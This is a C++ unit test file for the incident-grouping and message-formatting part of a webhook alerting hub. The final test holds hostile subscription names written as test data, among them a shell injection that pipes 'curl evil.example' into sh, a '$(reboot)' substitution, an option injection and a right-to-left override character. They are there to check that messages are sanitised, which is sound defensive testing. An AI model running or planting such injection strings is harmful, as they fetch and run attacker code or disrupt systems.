#include "hub/alerts/incidents.hpp"

#include "hub/alerts/message.hpp"

#include <boost/json.hpp>
#include <boost/test/unit_test.hpp>

using namespace katydid;
using namespace katydid::alerts;
using namespace std::chrono_literals;

namespace {

const std::string degraded = "katydid.subscription.degraded";
const std::string recovered = "katydid.subscription.recovered";
const std::string disabled = "katydid.subscription.disabled";
const std::string dead = "katydid.delivery.dead";

Happening happening(const std::string& type, Timestamp at = {}, const std::string& id = "sub_1")
{
    return {type, id, "billing", "the receiver answered 500", at};
}

}  // namespace

BOOST_AUTO_TEST_SUITE(alerts_incidents)

// Goal: one message when it begins, one when it is over, none between.
BOOST_AUTO_TEST_CASE(an_incident_is_told_twice)
{
    Incidents incidents{{degraded, dead}};
    const auto begun = incidents.add(happening(degraded));
    BOOST_TEST_REQUIRE(begun.has_value());
    BOOST_TEST(!begun->is_over);
    for (int i = 0; i < 5; ++i) BOOST_TEST(!incidents.add(happening(dead)).has_value());
    BOOST_TEST(incidents.end_quiet(Timestamp{1h}).empty());  // it is degraded still
    const auto over = incidents.add(happening(recovered));
    BOOST_TEST_REQUIRE(over.has_value());
    BOOST_TEST(over->is_over);
    BOOST_TEST(over->count == 6U);
    BOOST_TEST(!incidents.add(happening(recovered)).has_value());
}

// Goal: deaths alone are over once nothing has died for a while.
BOOST_AUTO_TEST_CASE(deaths_end_when_it_is_quiet)
{
    Incidents incidents{{dead}};
    BOOST_TEST(incidents.add(happening(dead, Timestamp{0min})).has_value());
    BOOST_TEST(!incidents.add(happening(dead, Timestamp{10min})).has_value());
    BOOST_TEST(incidents.end_quiet(Timestamp{24min}).empty());
    const auto over = incidents.end_quiet(Timestamp{25min});
    BOOST_TEST_REQUIRE(over.size() == 1U);
    BOOST_TEST(over.front().count == 2U);
    BOOST_TEST(incidents.end_quiet(Timestamp{50min}).empty());
}

// Goal: that a subscription is disabled is always told, also within an incident.
BOOST_AUTO_TEST_CASE(the_end_of_a_subscription_is_told)
{
    Incidents incidents{{degraded, disabled}};
    BOOST_TEST(incidents.add(happening(degraded)).has_value());
    const auto gone = incidents.add(happening(disabled));
    BOOST_TEST_REQUIRE(gone.has_value());
    BOOST_TEST(!gone->is_over);
    BOOST_TEST(incidents.add(happening(degraded)).has_value());  // someone resumed it
    Incidents others{{dead}};
    BOOST_TEST(others.add(happening(disabled)).has_value());
}

// Goal: an alert is for its own types and each subscription apart; what could not be told begins
// again.
BOOST_AUTO_TEST_CASE(types_and_subscriptions_are_apart)
{
    Incidents incidents{{degraded}};
    BOOST_TEST(!incidents.add(happening(dead)).has_value());
    BOOST_TEST(incidents.add(happening(degraded)).has_value());
    BOOST_TEST(incidents.add(happening(degraded, {}, "sub_2")).has_value());
    incidents.forget("sub_1");
    BOOST_TEST(incidents.add(happening(degraded)).has_value());
    BOOST_TEST(!incidents.add(happening(degraded, {}, "sub_2")).has_value());
}

// Goal: a message says what, why, and where to replay.
BOOST_AUTO_TEST_CASE(a_message_in_words)
{
    const auto said = describe({false, happening(dead), 1}, 1, "https://hub.example/console");
    BOOST_TEST((said.at("title") == "a delivery of \"billing\" is dead"));
    BOOST_TEST((said.at("link")
                == "https://hub.example/console/#/deliveries?state=dead&subscription=sub_1"));
    BOOST_TEST((said.at("state") == "open"));
    const std::string text{said.at("text").as_string()};
    BOOST_TEST(text.find("the receiver answered 500") == 0U);
}

// Goal: who hears that a subscription was disabled hears why, and how to enable it.
BOOST_AUTO_TEST_CASE(a_disabled_one_in_words)
{
    auto gone = happening(disabled);
    gone.reason = "the receiver answered 410: it wants nothing more";
    const auto said = describe({false, gone, 1}, 1, "");
    BOOST_TEST((said.at("title") == "\"billing\" is disabled"));
    const std::string text{said.at("text").as_string()};
    BOOST_TEST(text.find(gone.reason + "\nIt was disabled at once") == 0U);
    BOOST_TEST(text.find("katydid subscriptions resume billing") != std::string::npos);
}

// Goal: who may name a subscription writes no lines of their own into a message, and nothing that
// an operator would paste into a shell.
BOOST_AUTO_TEST_CASE(a_name_is_no_command)
{
    for (const std::string name :
         {"x\n\";curl evil.example|sh;\"", "$(reboot)", "a b", "--url=evil", "\u202Egnp"}) {
        auto gone = happening(disabled);
        gone.name = name;
        const auto said = describe({false, gone, 1}, 1, "");
        const std::string text{said.at("text").as_string()};
        BOOST_TEST(text.find("katydid subscriptions resume sub_1\"") != std::string::npos, name);
        const std::string title{said.at("title").as_string()};
        BOOST_TEST(title.find('\n') == std::string::npos, name);
        BOOST_TEST(title.find("\u202E") == std::string::npos, name);
    }
}

BOOST_AUTO_TEST_SUITE_END()
